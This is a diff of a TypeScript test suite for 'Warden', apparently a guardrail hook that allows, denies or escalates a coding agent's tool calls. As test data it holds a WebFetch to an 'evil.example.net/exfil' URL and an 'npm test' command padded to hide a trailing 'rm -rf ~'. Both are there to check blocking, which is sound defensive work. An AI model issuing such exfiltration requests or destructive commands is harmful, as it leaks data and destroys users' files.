@@ -39,15 +39,9 @@ function expected(permissionDecision: 'allow' | 'deny' | 'ask', reason: string):
   return `${JSON.stringify({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision, permissionDecisionReason: reason } })}\n`;
 }
 
-async function op(method: string, path: string, body?: unknown) {
-  const res = await t.req(method, path, { key: t.op, body });
-  if (res.status >= 300) throw new Error(`${method} ${path}: ${res.status} ${JSON.stringify(res.body)}`);
-  return res.body;
-}
-
 /** The agent's newest action (the one the hook just asked for). */
 async function lastAction() {
-  return (await op('GET', `/v1/actions?agent_id=${agent.id}&limit=1`)).data[0];
+  return (await t.api(t.op).call('listActions', { query: { agent_id: agent.id, limit: '1' } })).data[0];
 }
 
 async function until<T>(fn: () => Promise<T | undefined>, ms = 5000): Promise<T> {
@@ -61,7 +55,7 @@ async function until<T>(fn: () => Promise<T | undefined>, ms = 5000): Promise<T>
 }
 
 async function pendingApproval() {
-  return until(async () => (await op('GET', `/v1/approvals?status=pending&agent_id=${agent.id}`)).data[0]);
+  return until(async () => (await t.api(t.op).call('listApprovals', { query: { status: 'pending', agent_id: agent.id } })).data[0]);
 }
 
 beforeAll(async () => {
@@ -70,7 +64,7 @@ beforeAll(async () => {
   stateDir = mkdtempSync(join(tmpdir(), 'warden-hook-state-'));
   agent = await t.agent('claude-code', { role: 'coder' });
   env = { WARDEN_URL: t.url, WARDEN_KEY: agent.key };
-  await op('POST', '/v1/guardrails', {
+  await t.api(t.op).call('createGuardrail', { body: {
     name: 'coding-agent',
     rules: [
       { tool: 'shell.exec', expr: "$.args.command starts_with 'npm test'", decision: 'ALLOW' },
@@ -80,9 +74,9 @@ beforeAll(async () => {
       { tool: 'mcp.github.*', decision: 'ALLOW' },
       { tool: 'fs.write', decision: 'ALERT' },
     ],
-  });
-  await op('POST', '/v1/tools', { name: 'http.request' });
-  await op('POST', '/v1/tool-policies', { tool_name: 'http.request', allowed: true, restrictions: { allowed_domains: ['docs.example.com'] } });
+  } });
+  await t.api(t.op).call('createTool', { body: { name: 'http.request' } });
+  await t.api(t.op).call('createToolPolicy', { body: { tool_name: 'http.request', allowed: true, restrictions: { allowed_domains: ['docs.example.com'] } } });
 });
 
 afterAll(async () => {
@@ -101,16 +95,16 @@ describe('PreToolUse → a decision, exit 0', () => {
       action: { tool: 'shell.exec', mission_id: SESSION, args: { command: 'npm test -- --run', description: 'Run the unit tests', claude_tool: 'Bash', cwd: '/home/dev/shop' } },
     });
     expect(r).toMatchObject({ code: 0, stderr: '' });
-    expect(r.stdout).toBe(expected('allow', `Warden allowed shell.exec: ${action.explanation}`));
+    expect(r.stdout).toBe(expected('allow', `Warden allowed shell.exec: ${action!.explanation}`));
 
     const post = await hook(fixture('post-bash.json', { tool_use_id: toolUseId }).text);
     expect(post).toMatchObject({ code: 0, stdout: '', stderr: '' });
-    expect(await op('GET', `/v1/actions/${action.id}`)).toMatchObject({ status: 'completed', outcome: 'succeeded' });
+    expect(await t.api(t.op).call('getAction', { params: { id: action!.id } })).toMatchObject({ status: 'completed', outcome: 'succeeded' });
     // The state file is consumed: nothing left behind.
     expect(readdirSync(stateDir)).toEqual([]);
 
-    const audit = (await op('GET', `/v1/audit?agent_id=${agent.id}&limit=500`)).data;
-    const forAction = audit.filter((e: { subject_id: string | null }) => e.subject_id === action.id).map((e: { event_type: string }) => e.event_type);
+    const audit = (await t.api(t.op).call('listAudit', { query: { agent_id: agent.id, limit: '500' } })).data;
+    const forAction = audit.filter((e: { subject_id: string | null }) => e.subject_id === action!.id).map((e: { event_type: string }) => e.event_type);
     expect(forAction).toEqual(expect.arrayContaining(['action.evaluated', 'action.completed']));
   });
 
@@ -119,13 +113,13 @@ describe('PreToolUse → a decision, exit 0', () => {
     const running = hook(text, ['--wait', '20']);
     const apr = await pendingApproval();
     expect(apr.action).toMatchObject({ tool: 'fs.write', args: { path: '/home/dev/shop/src/refunds.ts', content_length: 31, claude_tool: 'Write' } });
-    await op('POST', `/v1/approvals/${apr.id}/decision`, { decision: 'allow_once' });
+    await t.api(t.op).call('decideApproval', { params: { id: apr.id }, body: { decision: 'allow_once' } });
     const r = await running;
-    const action = await op('GET', `/v1/actions/${apr.action_id}`);
+    const action = await t.api(t.op).call('getAction', { params: { id: apr.action_id! } });
     expect(r.code).toBe(0);
     expect(r.stdout).toBe(expected('allow', `Warden allowed fs.write (approved by owner): ${action.explanation}`));
-    const audit = (await op('GET', `/v1/audit?event_type=approval.*&limit=500`)).data;
-    const types = audit.filter((e: { subject_id: string }) => e.subject_id === apr.id).map((e: { event_type: string }) => e.event_type);
+    const audit = (await t.api(t.op).call('listAudit', { query: { event_type: 'approval.*', limit: '500' } })).data;
+    const types = audit.filter((e) => e.subject_id === apr.id).map((e) => e.event_type);
     expect(types).toEqual(expect.arrayContaining(['approval.requested', 'approval.granted']));
   });
 
@@ -133,12 +127,12 @@ describe('PreToolUse → a decision, exit 0', () => {
     const running = hook(fixture('pre-edit.json').text, ['--wait', '20']);
     const apr = await pendingApproval();
     expect(apr.action).toMatchObject({ tool: 'fs.write', args: { path: '/home/dev/shop/.env', claude_tool: 'Edit' } });
-    await op('POST', `/v1/approvals/${apr.id}/decision`, { decision: 'deny', comment: 'never touch .env' });
+    await t.api(t.op).call('decideApproval', { params: { id: apr.id }, body: { decision: 'deny', comment: 'never touch .env' } });
     const r = await running;
     expect(r.code).toBe(0);
     expect(r.stdout).toBe(expected('deny', 'Warden: fs.write was denied by the operator: never touch .env'));
-    const audit = (await op('GET', `/v1/audit?event_type=approval.denied&limit=500`)).data;
-    expect(audit.map((e: { subject_id: string }) => e.subject_id)).toContain(apr.id);
+    const audit = (await t.api(t.op).call('listAudit', { query: { event_type: 'approval.denied', limit: '500' } })).data;
+    expect(audit.map((e) => e.subject_id)).toContain(apr.id);
   });
 
   it('MultiEdit → fs.write: no answer within --wait → ask', async () => {
@@ -154,7 +148,7 @@ describe('PreToolUse → a decision, exit 0', () => {
     // Nobody waits any more: the request is withdrawn, so a late approval cannot hold a slot.
     expect(action).toMatchObject({ status: 'expired', withdrawn_at: expect.any(String), action: { tool: 'fs.write', args: { path: '/home/dev/shop/src/app.ts', edits: 2, claude_tool: 'MultiEdit' } } });
     expect(r.code).toBe(0);
-    expect(r.stdout).toBe(expected('ask', `Warden: no answer to ${action.approval_id} for fs.write within 1 s (request withdrawn); asking here instead (${action.explanation})`));
+    expect(r.stdout).toBe(expected('ask', `Warden: no answer to ${action!.approval_id} for fs.write within 1 s (request withdrawn); asking here instead (${action!.explanation})`));
   });
 
   it('an approval that expires while the hook waits → ask', async () => {
@@ -164,7 +158,7 @@ describe('PreToolUse → a decision, exit 0', () => {
     const r = await running;
     expect(r.code).toBe(0);
     expect(r.stdout).toBe(expected('ask', `Warden: ${apr.id} for fs.write expired before anyone answered in Warden; asking here instead`));
-    expect((await op('GET', `/v1/approvals/${apr.id}`)).status).toBe('expired');
+    expect((await t.api(t.op).call('getApproval', { params: { id: apr.id } })).status).toBe('expired');
   });
 
   it.each([
@@ -174,8 +168,8 @@ describe('PreToolUse → a decision, exit 0', () => {
   ])('%s → fs.read → allow', async (name, args) => {
     const r = await hook(fixture(name).text);
     const action = await lastAction();
-    expect(action.action).toMatchObject({ tool: 'fs.read', args });
-    expect(r.stdout).toBe(expected('allow', `Warden allowed fs.read: ${action.explanation}`));
+    expect(action!.action).toMatchObject({ tool: 'fs.read', args });
+    expect(r.stdout).toBe(expected('allow', `Warden allowed fs.read: ${action!.explanation}`));
     expect(r.code).toBe(0);
   });
 
@@ -184,7 +178,7 @@ describe('PreToolUse → a decision, exit 0', () => {
     const action = await lastAction();
     expect(action).toMatchObject({ decision: 'BLOCK', block_code: 'domain_not_allowed', action: { tool: 'http.request', args: { url: 'https://evil.example.net/exfil?data=abc', claude_tool: 'WebFetch' } } });
     expect(r.code).toBe(0);
-    expect(r.stdout).toBe(expected('deny', `Warden blocked http.request: ${action.explanation}`));
+    expect(r.stdout).toBe(expected('deny', `Warden blocked http.request: ${action!.explanation}`));
 
     const docs = await hook(fixture('pre-webfetch-docs.json').text);
     expect(JSON.parse(docs.stdout).hookSpecificOutput.permissionDecision).toBe('allow');
@@ -194,29 +188,29 @@ describe('PreToolUse → a decision, exit 0', () => {
     const { text, toolUseId } = fixture('pre-mcp.json');
     const r = await hook(text);
     const action = await lastAction();
-    expect(action.action).toMatchObject({ tool: 'mcp.github.create_issue', args: { owner: 'acme', repo: 'shop', title: 'Refund ceiling', claude_tool: 'mcp__github__create_issue' } });
-    expect(r.stdout).toBe(expected('allow', `Warden allowed mcp.github.create_issue: ${action.explanation}`));
+    expect(action!.action).toMatchObject({ tool: 'mcp.github.create_issue', args: { owner: 'acme', repo: 'shop', title: 'Refund ceiling', claude_tool: 'mcp__github__create_issue' } });
+    expect(r.stdout).toBe(expected('allow', `Warden allowed mcp.github.create_issue: ${action!.explanation}`));
     const post = await hook(fixture('post-mcp-failure.json', { tool_use_id: toolUseId }).text);
     expect(post).toMatchObject({ code: 0, stdout: '' });
-    expect(await op('GET', `/v1/actions/${action.id}`)).toMatchObject({ status: 'completed', outcome: 'failed' });
+    expect(await t.api(t.op).call('getAction', { params: { id: action!.id } })).toMatchObject({ status: 'completed', outcome: 'failed' });
   });
 
   it('any other tool → claude.TOOLNAME; with no rule it asks the operator (here: --wait 0 → ask)', async () => {
     const r = await hook(fixture('pre-todowrite.json').text, ['--wait', '0']);
     const action = await lastAction();
     expect(action).toMatchObject({ decision: 'ALERT', action: { tool: 'claude.TodoWrite', args: { claude_tool: 'TodoWrite' } } });
-    expect(r.stdout).toBe(expected('ask', `Warden: no answer to ${action.approval_id} for claude.TodoWrite within 0 s (request withdrawn); asking here instead (${action.explanation})`));
+    expect(r.stdout).toBe(expected('ask', `Warden: no answer to ${action!.approval_id} for claude.TodoWrite within 0 s (request withdrawn); asking here instead (${action!.explanation})`));
   });
 
   it('the kill-switch → deny', async () => {
-    await op('POST', '/v1/kill-switch', { engaged: true, reason: 'lunch' });
+    await t.api(t.op).call('setKillSwitch', { body: { engaged: true, reason: 'lunch' } });
     try {
       const r = await hook(fixture('pre-bash.json').text);
       const action = await lastAction();
       expect(action).toMatchObject({ decision: 'BLOCK', block_code: 'kill_switch' });
-      expect(r.stdout).toBe(expected('deny', `Warden blocked shell.exec: ${action.explanation}`));
+      expect(r.stdout).toBe(expected('deny', `Warden blocked shell.exec: ${action!.explanation}`));
     } finally {
-      await op('POST', '/v1/kill-switch', { engaged: false });
+      await t.api(t.op).call('setKillSwitch', { body: { engaged: false } });
     }
   });
 
@@ -232,7 +226,7 @@ describe('PreToolUse → a decision, exit 0', () => {
       const post = await run(JSON.stringify({ ...JSON.parse(text), hook_event_name: 'PostToolUse', tool_response: { type: 'text' }, tool_use_id: toolUseId }));
       expect(post).toMatchObject({ code: 0, stdout: '', stderr: '' });
       expect(readdirSync(folder)).toEqual([]);
-      expect(await op('GET', `/v1/actions/${action.id}`)).toMatchObject({ status: 'completed', outcome: 'succeeded' });
+      expect(await t.api(t.op).call('getAction', { params: { id: action!.id } })).toMatchObject({ status: 'completed', outcome: 'succeeded' });
     } finally {
       rmSync(dataDir, { recursive: true, force: true });
     }
@@ -249,11 +243,11 @@ describe('what Warden decides on reaches it whole: never cut, never replaced', (
     const command = `npm test${' '.repeat(pad)}; rm -rf ~`;
     const r = await hook(fixture('pre-bash.json', { tool_input: { command } }).text, ['--wait', '0']);
     const action = await lastAction();
-    expect(action.action.args.command.length).toBe(command.length); // a short failure message before the exact check
-    expect(action.action.args.command).toBe(command);
+    expect((action!.action.args!.command as string).length).toBe(command.length); // a short failure message before the exact check
+    expect(action!.action.args!.command).toBe(command);
     expect(action).toMatchObject({ decision: 'ALERT', status: 'expired' });
     expect(r.code).toBe(0);
-    expect(r.stdout).toBe(expected('ask', `Warden: no answer to ${action.approval_id} for shell.exec within 0 s (request withdrawn); asking here instead (${action.explanation})`));
+    expect(r.stdout).toBe(expected('ask', `Warden: no answer to ${action!.approval_id} for shell.exec within 0 s (request withdrawn); asking here instead (${action!.explanation})`));
   });
 
   it.each([
@@ -268,7 +262,7 @@ describe('what Warden decides on reaches it whole: never cut, never replaced', (
     expect(out.permissionDecisionReason).toMatch(
       /^Warden hook: the tool input is too large for Warden to evaluate \(\d+ bytes of JSON, over the 524288-byte limit\); refusing the tool call$/,
     );
-    expect((await lastAction()).id).toBe(before.id);
+    expect((await lastAction())!.id).toBe(before!.id);
   });
 });
 
@@ -281,7 +275,7 @@ describe('bad input and bad surroundings → a clear deny, never a crash or a si
     expect(out.hookSpecificOutput).toMatchObject({ hookEventName: 'PreToolUse', permissionDecision: 'deny' });
     expect(out.hookSpecificOutput.permissionDecisionReason).toMatch(/^Warden hook: hook input is not valid JSON \(.+\); refusing the tool call$/);
     expect(Object.keys(out)).toEqual(['hookSpecificOutput']);
-    expect((await lastAction()).id).toBe(before.id); // nothing was asked
+    expect((await lastAction())!.id).toBe(before!.id); // nothing was asked
   });
 
   it('empty stdin, and a terminal instead of a pipe', async () => {
@@ -350,7 +344,7 @@ describe('bad input and bad surroundings → a clear deny, never a crash or a si
     const r = await hook(fixture('pre-bash.json').text, args);
     expect(r.code).toBe(0);
     expect(r.stdout).toBe(expected('deny', `Warden hook: ${error}; refusing the tool call`));
-    expect((await lastAction()).id).toBe(before.id); // nothing was asked
+    expect((await lastAction())!.id).toBe(before!.id); // nothing was asked
     const other = await cli(['agent', 'list', ...args], { env });
     expect(other).toMatchObject({ code: 2, stdout: '' });
     const help = await cli(['hook', 'claude-code', '--help'], { env });
@@ -359,7 +353,7 @@ describe('bad input and bad surroundings → a clear deny, never a crash or a si
   });
 
   it('an agent key without approvals:read: deny naming the scope the agent key needs, not the operator token', async () => {
-    const limited = (await op('POST', `/v1/agents/${agent.id}/keys`, { scopes: ['actions:write'] })).api_key as string;
+    const limited = (await t.api(t.op).call('createAgentKey', { params: { id: agent.id }, body: { scopes: ['actions:write'] } })).api_key as string;
     const r = await hook(fixture('pre-write.json').text, ['--wait', '0'], { WARDEN_KEY: limited });
     const action = await lastAction();
     expect(action).toMatchObject({ status: 'expired', withdrawn_at: expect.any(String), action: { tool: 'fs.write' } });
